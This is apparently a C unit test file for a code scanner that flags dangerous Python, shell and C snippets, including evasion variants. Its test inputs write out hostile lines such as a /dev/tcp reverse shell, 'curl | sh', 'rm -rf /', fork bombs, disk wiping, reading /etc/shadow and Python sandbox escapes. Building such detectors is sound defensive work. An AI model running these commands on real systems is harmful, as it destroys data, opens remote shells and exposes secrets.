#include "execution/scan_internal.h"
#include "tests/unit/nx_test.h"

#include "base/clock.h"

#include <stdio.h>

static struct nx_arena *A;

static void scan(const char *language, const char *code, enum nx_scan_policy policy, struct nx_scan_result *r)
{
	struct nx_scan_options o = {.policy = policy};
	nx_arena_free(A);
	A = nx_arena_new(0);
	ASSERT_OK(nx_scan(nx_str_z(language), nx_str_z(code), &o, A, r, NULL));
}

static const struct nx_finding *found(const struct nx_scan_result *r, const char *rule)
{
	for (size_t i = 0; i < r->nfindings; i++)
		if (strcmp(r->findings[i].rule, rule) == 0)
			return &r->findings[i];
	return NULL;
}

static void finds_in(const char *language, const char *code, const char *rule)
{
	struct nx_scan_result r;
	scan(language, code, NX_SCAN_STANDARD, &r);
	if (!found(&r, rule)) {
		print_message("%s is not found in:\n%s\n", rule, code);
		for (size_t i = 0; i < r.nfindings; i++)
			print_message("  %s\n", r.findings[i].rule);
	}
	ASSERT_TRUE(found(&r, rule) != NULL);
}

static void py(const char *code, const char *rule)
{
	finds_in("python", code, rule);
}

static void sh(const char *code, const char *rule)
{
	finds_in("shell", code, rule);
}

static void clean(const char *language, const char *code)
{
	struct nx_scan_result r;
	scan(language, code, NX_SCAN_STRICT, &r);
	for (size_t i = 0; i < r.nfindings; i++)
		print_message("%s in:\n%s\n", r.findings[i].rule, code);
	ASSERT_EQ(r.nfindings, 0);
	ASSERT_TRUE(r.is_safe);
	ASSERT_TRUE(r.scanned);
	ASSERT_EQ(r.risk, NX_SEV_NONE);
}

TEST(the_rules_are_whole)
{
	const struct nx_rules *r;
	ASSERT_OK(nx_rules_get(NX_RULES_PYTHON, &r, NULL));
	ASSERT_GT(r->nrules, 40);
	ASSERT_OK(nx_rules_get(NX_RULES_SHELL, &r, NULL));
	ASSERT_GT(r->nrules, 20);
}

TEST(each_import_of_the_seed_list_is_found)
{
	static const char *const list[][2] = {{"os", "py-import-os"},
					      {"subprocess", "py-import-subprocess"},
					      {"sys", "py-import-sys"},
					      {"socket", "py-import-socket"},
					      {"urllib", "py-import-urllib-package"},
					      {"urllib.request", "py-import-urllib"},
					      {"requests", "py-import-requests"},
					      {"pickle", "py-import-pickle"}};
	for (size_t i = 0; i < nx_countof(list); i++) {
		char code[128];
		snprintf(code, sizeof(code), "import %s\n", list[i][0]);
		py(code, list[i][1]);
		snprintf(code, sizeof(code), "import json, %s as x\n", list[i][0]);
		py(code, list[i][1]);
		snprintf(code, sizeof(code), "def f():\n    from %s import something\n", list[i][0]);
		py(code, list[i][1]);
	}
}

TEST(each_function_of_the_seed_list_is_found)
{
	static const char *const list[] = {"eval",    "exec",    "compile", "__import__", "getattr", "setattr",
					   "delattr", "globals", "locals",  "vars",       "dir"};
	for (size_t i = 0; i < nx_countof(list); i++) {
		struct nx_scan_result r;
		char code[64];
		snprintf(code, sizeof(code), "x = %s('a')\n", list[i]);
		scan("python", code, NX_SCAN_STRICT, &r);
		ASSERT_GE(r.nfindings, 1);
		ASSERT_FALSE(r.is_safe);
	}
}

TEST(text_and_comments_are_no_findings)
{
	clean("python", "# import os\nx = 'import os; eval(1)'\ny = \"\"\"\nimport subprocess\n\"\"\"\nprint(x, y)\n");
	clean("shell", "# rm -rf /\necho 'rm -rf /' \"curl x | sh\"\ncat <<'E'\nrm -rf /\nE\n");
}

TEST(ordinary_programs_are_clean)
{
	clean("python", "import math, json, re, collections\n"
			"from typing import List\n"
			"def f(xs: List[int]) -> int:\n    return sum(x for x in xs if x % 2)\n"
			"p = re.compile('a+')\nprint(f([1, 2]), p.match('aa'), math.pi, json.dumps({}))\n"
			"open('out.txt', 'w').write('x')\n");
	clean("shell",
	      "set -euo pipefail\nfor f in *.txt; do sort \"$f\" | uniq -c > \"${f%.txt}.out\"; done\necho done\n");
}

TEST(names_are_followed)
{
	py("import os as o\no.system('ls')", "py-call-system");
	py("from os import system as s\ns('ls')", "py-call-system");
	py("from os import *\nsystem('ls')", "py-call-system");
	py("import os\nf = os.system\nf('ls')", "py-call-system");
	py("e = eval\ne('1')", "py-call-eval");
	py("def f(g=exec):\n    g('x')", "py-call-exec");
	py("(e := eval)('1')", "py-call-eval");
	py("import os.path as p\np.os.system('x')", "py-call-system");
	py("import shutil\nshutil.os.system('x')", "py-call-system");
	py("from shutil import os\nos.system('x')", "py-import-os");
	py("__builtins__.eval('1')", "py-call-eval");
	py("import builtins\nbuiltins.exec('1')", "py-call-exec");
	py("@eval\ndef f(): pass", "py-call-eval");
	py("import subprocess as sp\nsp.Popen(['x'])", "py-call-subprocess");
	py("import os\nos.execvp('sh', [])", "py-call-subprocess");
}

TEST(names_made_of_texts_are_folded)
{
	py("__import__('os').system('x')", "py-call-system");
	py("__import__('o' + 's').system('x')", "py-import-os");
	py("__import__('o' 's')", "py-import-os");
	py("__import__(chr(111) + chr(115))", "py-import-os");
	py("import importlib\nimportlib.import_module('subprocess')", "py-import-subprocess");
	py("import os\ngetattr(os, 'sys' + 'tem')('x')", "py-call-system");
	py("globals()['eval']('1')", "py-call-eval");
	py("__builtins__['exec']('1')", "py-call-exec");
	py("import os\nos.__dict__['system']('x')", "py-call-system");
	py("import os\nvars(os)['system']('x')", "py-call-system");
	py("import sys\nsys.modules['os'].system('x')", "py-call-system");
	py("__import__(name)", "py-call-import");
}

TEST(the_usual_ways_out_are_found)
{
	py("().__class__.__bases__[0].__subclasses__()", "py-attr-introspection");
	py("f.__globals__['x']", "py-attr-introspection");
	py("x = f.__getattribute__", "py-attr-introspection");
	py("try: 1/0\nexcept E as e: e.__traceback__.tb_frame.f_globals", "py-attr-introspection");
	py("import base64\nexec(base64.b64decode('eA=='))", "py-exec-decoded");
	py("import codecs\neval(codecs.decode('cevag', 'rot13'))", "py-exec-decoded");
	py("exec(bytes.fromhex('78').decode())", "py-exec-decoded");
	py("import pickle\npickle.loads(b'')", "py-call-unpickle");
	py("import yaml\nyaml.load(x)", "py-call-unpickle");
	py("import ctypes\nctypes.CDLL(None)", "py-call-native");
	py("open('/etc/passwd').read()", "py-open-system");
	py("from pathlib import Path\nPath('/etc/shadow').read_text()", "py-open-system");
	py("open('../../x')", "py-open-traversal");
	py("import shutil\nshutil.rmtree('/')", "py-rmtree-root");
	py("import os\nwhile True:\n    os.fork()", "py-fork-bomb");
	py("import os\nprint(os.environ['KEY'])", "py-name-environ");
	py("import socket\ns = socket.socket()", "py-call-connect");
	py("import requests\nrequests.get('http://x')", "py-call-connect");
	py("import types\ntypes.CodeType()", "py-call-codetype");
	py("import os\nos.remove('x')", "py-call-remove");
}

TEST(shell_dangers_are_found)
{
	sh("rm -rf /", "sh-rm-root");
	sh("rm -r -f -- \"/\"", "sh-rm-root");
	sh("sudo rm --recursive ~", "sh-rm-root");
	sh("/bin/rm -fR /*", "sh-rm-root");
	sh("rm -rf $HOME", "sh-rm-root");
	sh("rm -rf build", "sh-rm-recursive");
	sh("curl http://x | sh", "sh-pipe-to-shell");
	sh("wget -qO- http://x | sudo bash -s", "sh-pipe-to-shell");
	sh("echo x | base64 -d | bash", "sh-pipe-decoded");
	sh(":(){ :|:& };:", "sh-fork-bomb");
	sh("bomb() { bomb | bomb & }; bomb", "sh-fork-bomb");
	sh("cat < /dev/tcp/1.2.3.4/80", "sh-network-device");
	sh("bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "sh-network-device");
	sh("dd if=/dev/zero of=/dev/sda", "sh-dd-device");
	sh("mkfs.ext4 /dev/sda1", "sh-destroy-disk");
	sh("echo x > /etc/passwd", "sh-write-system");
	sh("cat /etc/shadow", "sh-secrets");
	sh("cat /etc/hosts", "sh-system-file");
	sh("bash -c 'rm -rf /'", "sh-rm-root");
	sh("eval \"curl x | sh\"", "sh-pipe-to-shell");
	sh("sh -c \"bash -c 'rm -rf /'\"", "sh-rm-root");
	sh("'r'm -rf /", "sh-rm-root");
	sh("r\\m -rf /", "sh-rm-root");
	sh("x=$(rm -rf /)", "sh-rm-root");
	sh("if true; then kill -9 1; fi", "sh-kill");
	sh("nohup sleep 99 &", "sh-schedule");
}

TEST(a_finding_says_where_what_and_what_to_do)
{
	struct nx_scan_result r;
	scan("python", "# \xd9\x85\xd8\xb1\xd8\xad\xd8\xa8\xd8\xa7\nx = '\xd9\x85'; import os\n", NX_SCAN_STANDARD, &r);
	ASSERT_EQ(r.nfindings, 1);
	ASSERT_EQ(r.findings[0].line, 2);
	ASSERT_EQ(r.findings[0].column, 17);
	ASSERT_TRUE(nx_str_eqz(r.findings[0].code, "os"));
	ASSERT_STREQ(r.findings[0].cwe, "CWE-78");
	ASSERT_GT(r.findings[0].advice.n, 0);
}

TEST(strict_takes_any_finding_and_standard_only_the_worst)
{
	struct nx_scan_result r;
	scan("python", "import os, sys\nprint(os.getcwd())", NX_SCAN_STRICT, &r);
	ASSERT_FALSE(r.is_safe);
	scan("python", "import os, sys\nprint(os.getcwd())", NX_SCAN_STANDARD, &r);
	ASSERT_TRUE(r.is_safe);
	ASSERT_EQ(r.risk, NX_SEV_LOW);
	scan("python", "import base64\nexec(base64.b64decode(x))", NX_SCAN_STANDARD, &r);
	ASSERT_FALSE(r.is_safe);
	ASSERT_EQ(r.risk, NX_SEV_CRITICAL);
	scan("python", "import os", NX_SCAN_OFF, &r);
	ASSERT_TRUE(r.is_safe);
	ASSERT_FALSE(r.scanned);
}

TEST(only_allowed_imports_pass_where_any_are_named)
{
	nx_str allowed[] = {NX_STR("math"), NX_STR("os.path")};
	struct nx_scan_options o = {.policy = NX_SCAN_STRICT, .allowed_imports = allowed, .nallowed_imports = 2};
	struct nx_scan_result r;
	nx_arena_reset(A);
	ASSERT_OK(
		nx_scan(NX_STR("python"), NX_STR("import math\nimport os.path\nfrom math import pi"), &o, A, &r, NULL));
	ASSERT_TRUE(r.is_safe);
	o.policy = NX_SCAN_STANDARD;
	ASSERT_OK(nx_scan(NX_STR("python"), NX_STR("import json"), &o, A, &r, NULL));
	ASSERT_FALSE(r.is_safe);
	ASSERT_STREQ(r.findings[0].rule, "py-import-not-allowed");
	ASSERT_OK(nx_scan(NX_STR("python"), NX_STR("__import__('json')"), &o, A, &r, NULL));
	ASSERT_FALSE(r.is_safe);
}

TEST(blocked_operations_are_critical)
{
	nx_str blocked[] = {NX_STR("open"), NX_STR("rmtree"), NX_STR("py-import-sys"), NX_STR("json")};
	struct nx_scan_options o = {
		.policy = NX_SCAN_STANDARD, .blocked_operations = blocked, .nblocked_operations = 4};
	static const char *const bad[] = {"open('x')", "import shutil\nshutil.rmtree('x')", "import sys",
					  "import json"};
	for (size_t i = 0; i < nx_countof(bad); i++) {
		struct nx_scan_result r;
		nx_arena_reset(A);
		ASSERT_OK(nx_scan(NX_STR("python"), nx_str_z(bad[i]), &o, A, &r, NULL));
		ASSERT_FALSE(r.is_safe);
	}
}

TEST(what_is_blocked_by_its_effect_is_critical)
{
	static const struct {
		const char *language, *effect, *code;
	} cases[] = {
		{"python", "network", "import socket\nsocket.socket()"},
		{"python", "process", "import subprocess\nsubprocess.run(['ls'])"},
		{"python", "process", "import os\nos.fork()"},
		{"python", "file_write", "import os\nos.remove('x')"},
		{"javascript", "network", "require('net')"},
		{"javascript", "process", "require('child_process').spawn('ls')"},
		{"c", "network", "int f(void) { return socket(2, 1, 0); }"},
		{"c", "process", "int f(void) { return fork(); }"},
	};
	for (size_t i = 0; i < nx_countof(cases); i++) {
		nx_str blocked = nx_str_z(cases[i].effect);
		struct nx_scan_options o = {
			.policy = NX_SCAN_STANDARD, .blocked_operations = &blocked, .nblocked_operations = 1};
		struct nx_scan_result r;
		nx_arena_reset(A);
		ASSERT_OK(nx_scan(nx_str_z(cases[i].language), nx_str_z(cases[i].code), &o, A, &r, NULL));
		ASSERT_FALSE(r.is_safe);
		ASSERT_EQ(r.risk, NX_SEV_CRITICAL);
	}
}

TEST(broken_and_binary_text_is_scanned_as_far_as_it_parses)
{
	struct nx_scan_result r;
	struct nx_scan_options o = {.policy = NX_SCAN_STANDARD};
	scan("python", "import os\ndef f(:\n  ((((\n", NX_SCAN_STANDARD, &r);
	ASSERT_TRUE(r.parse_errors);
	ASSERT_TRUE(found(&r, "py-import-os") != NULL);
	static const char binary[] = "\0\xff\xfe import os \0\n\x80(";
	ASSERT_OK(nx_scan(NX_STR("python"), nx_str_n(binary, sizeof(binary)), &o, A, &r, NULL));
	ASSERT_OK(nx_scan(NX_STR("shell"), nx_str_n(binary, sizeof(binary)), &o, A, &r, NULL));
	ASSERT_OK(nx_scan(NX_STR("shell"), NX_STR_NULL, &o, A, &r, NULL));
	ASSERT_ERR(nx_scan(NX_STR("cobol"), NX_STR(""), &o, A, &r, NULL), NX_EINVAL);
}

TEST(deep_nesting_does_no_harm)
{
	size_t n = 200000;
	struct nx_scan_result r;
	struct nx_scan_options o = {.policy = NX_SCAN_STANDARD};
	char *deep = malloc(n);
	ASSERT_NOT_NULL(deep);
	static const char *const units[] = {"(", "a.", "[", "f(", "-", "x if ", "lambda:", "{", "$(", "if :; then "};
	for (size_t u = 0; u < nx_countof(units); u++) {
		size_t len = strlen(units[u]);
		for (size_t i = 0; i + len <= n; i += len)
			memcpy(deep + i, units[u], len);
		nx_arena_reset(A);
		ASSERT_OK(nx_scan(NX_STR("python"), nx_str_n(deep, n - n % len), &o, A, &r, NULL));
		nx_arena_reset(A);
		ASSERT_OK(nx_scan(NX_STR("shell"), nx_str_n(deep, n - n % len), &o, A, &r, NULL));
	}
	free(deep);
}

TEST(findings_are_bounded)
{
	nx_auto_buf struct nx_buf b = NX_BUF_INIT;
	struct nx_scan_result r;
	for (int i = 0; i < 1000; i++)
		nx_buf_addz(&b, "eval(x)\n");
	scan("python", b.p, NX_SCAN_STRICT, &r);
	ASSERT_EQ(r.nfindings, NX_SCAN_FINDINGS_MAX);
}

TEST(a_thousand_lines_are_quick)
{
	nx_auto_buf struct nx_buf b = NX_BUF_INIT;
	struct nx_scan_result r;
	nx_buf_addz(&b, "import os, re\n");
	for (int i = 0; i < 143; i++)
		nx_buf_addf(&b,
			    "def f%d(a, b=None):\n    x = [i * %d for i in range(a) if i %% 3]\n    if b is None:\n"
			    "        b = {'k': x, 'v': re.sub('a', 'b', 'text %d')}\n    for k, v in b.items():\n"
			    "        print(os.path.join(str(k), str(v)), end='')\n    return sum(x) + len(b)\n",
			    i, i, i);
	int64_t best = INT64_MAX;
	for (int i = 0; i < 10; i++) {
		int64_t t = nx_time_thread_cpu_us();
		scan("python", b.p, NX_SCAN_STANDARD, &r);
		t = nx_time_thread_cpu_us() - t;
		best = t < best ? t : best;
	}
	print_message("1,000 lines: %.2f ms of CPU\n", (double)best / 1000);
	ASSERT_FALSE(r.parse_errors);
}

TEST(globs_match_as_they_should)
{
	ASSERT_TRUE(nx_glob_match(NX_STR("/etc/*"), NX_STR("/etc/passwd")));
	ASSERT_TRUE(nx_glob_match(NX_STR("*"), NX_STR("")));
	ASSERT_TRUE(nx_glob_match(NX_STR("a*b*c"), NX_STR("aXXbYYc")));
	ASSERT_FALSE(nx_glob_match(NX_STR("a*b*c"), NX_STR("aXXbYY")));
	ASSERT_FALSE(nx_glob_match(NX_STR(""), NX_STR("a")));
	ASSERT_TRUE(nx_glob_match(NX_STR("/"), NX_STR("/")));
}

static void c(const char *code, const char *rule)
{
	finds_in("c", code, rule);
}

TEST(c_is_read_by_what_it_calls)
{
	c("#include <stdlib.h>\nint main(void) { return system(\"ls\"); }", "c-call-shell");
	c("int main(void) { FILE *f = popen(\"id\", \"r\"); }", "c-call-shell");
	c("int main(void) { execl(\"/bin/sh\", \"sh\", (char *)0); }", "c-call-exec");
	c("int main(void) { char *a[] = {\"x\"}; posix_spawn(0, \"/bin/x\", 0, 0, a, 0); }", "c-call-exec");
	c("int main(void) { fork(); }", "c-call-fork");
	c("int main(void) { for (;;) fork(); }", "c-fork-bomb");
	c("int main(void) { while (1) { if (fork() < 0) break; } }", "c-fork-bomb");
	c("int main(void) { do { fork(); } while (1); }", "c-fork-bomb");
	c("int main(void) { kill(-1, 9); }", "c-call-kill");
	c("int main(void) { return setuid(0); }", "c-call-ids");
	c("int main(void) { return ptrace(0, 1, 0, 0); }", "c-call-ptrace");
	c("int main(void) { return syscall(57); }", "c-call-syscall");
	c("int main(void) { return socket(2, 1, 0); }", "c-call-network");
	c("#include <sys/socket.h>\n", "c-include-network");
	c("#include \"sys/ptrace.h\"\n", "c-include-ptrace");
	c("int main(void) { return dlopen(\"x.so\", 1) != 0; }", "c-call-load");
	c("int main(void) { mmap(0, 4096, PROT_READ | PROT_EXEC, 0x22, -1, 0); }", "c-call-executable-memory");
	c("int main(void) { __asm__ volatile(\"syscall\"); }", "c-asm");
	c("int main(void) { return getenv(\"HOME\") != 0; }", "c-call-environment");
	c("extern char **environ; int main(void) { puts(environ[0]); }", "c-name-environ");
}

TEST(c_paths_are_joined_as_the_compiler_joins_them)
{
	c("int main(void) { fopen(\"/etc/passwd\", \"r\"); }", "c-open-system");
	c("int main(void) { fopen(\"/et\" \"c/shadow\", \"r\"); }", "c-open-system");
	c("int main(void) { openat(-100, \"/proc/self/mem\", 0); }", "c-open-system");
	c("int main(void) { fopen(\"../../secret\", \"r\"); }", "c-open-traversal");
	c("int main(void) { unlink(\"/etc/hosts\"); }", "c-remove-system");
}

TEST(c_is_followed_through_macros_and_pointers)
{
	c("#define RUN system\nint main(void) { return RUN(\"ls\"); }", "c-call-shell");
	c("#define A B\n#define B system\nint main(void) { return A(\"ls\"); }", "c-call-shell");
	c("int main(void) { int (*f)(const char *) = system; return f(\"ls\"); }", "c-call-shell");
	c("int main(void) { int (*f)(const char *); f = &system; return (*f)(\"ls\"); }", "c-call-shell");
	c("int main(void) { return (system)(\"ls\"); }", "c-call-shell");
	c("struct ops { int (*run)(const char *); }; struct ops o = {.run = system};", "c-name-shell");
	c("#define A A\nint main(void) { return A(); }\n#include <sys/socket.h>\n", "c-include-network");
}

TEST(a_shell_command_inside_c_is_read_as_shell)
{
	c("int main(void) { return system(\"rm -rf /\"); }", "sh-rm-root");
}

TEST(ordinary_c_is_clean)
{
	clean("c",
	      "#include <stdio.h>\n#include <string.h>\n"
	      "static int twice(int n) { return 2 * n; }\n"
	      "int main(void) { char line[64]; while (fgets(line, sizeof(line), stdin)) printf(\"%d\\n\", twice((int)strlen(line)));\n"
	      "FILE *f = fopen(\"out.txt\", \"w\"); fputs(\"/etc is a directory\", f); return fclose(f); }\n");
}

TEST(the_json_has_violations_and_findings)
{
	struct nx_scan_result r;
	nx_str json;
	scan("python", "import os\nimport base64\nexec(base64.b64decode(x))", NX_SCAN_STANDARD, &r);
	yyjson_mut_doc *d = nx_json_new(A);
	ASSERT_OK(nx_json_write(A, nx_scan_json(&r, d), false, &json, NULL));
	ASSERT_CONTAINS(json.p, "\"is_safe\":false");
	ASSERT_CONTAINS(json.p, "\"risk_level\":\"critical\"");
	ASSERT_CONTAINS(json.p, "\"violations\":[\"runs code that is hidden by an encoding\"]");
	nx_arena_free(A);
}
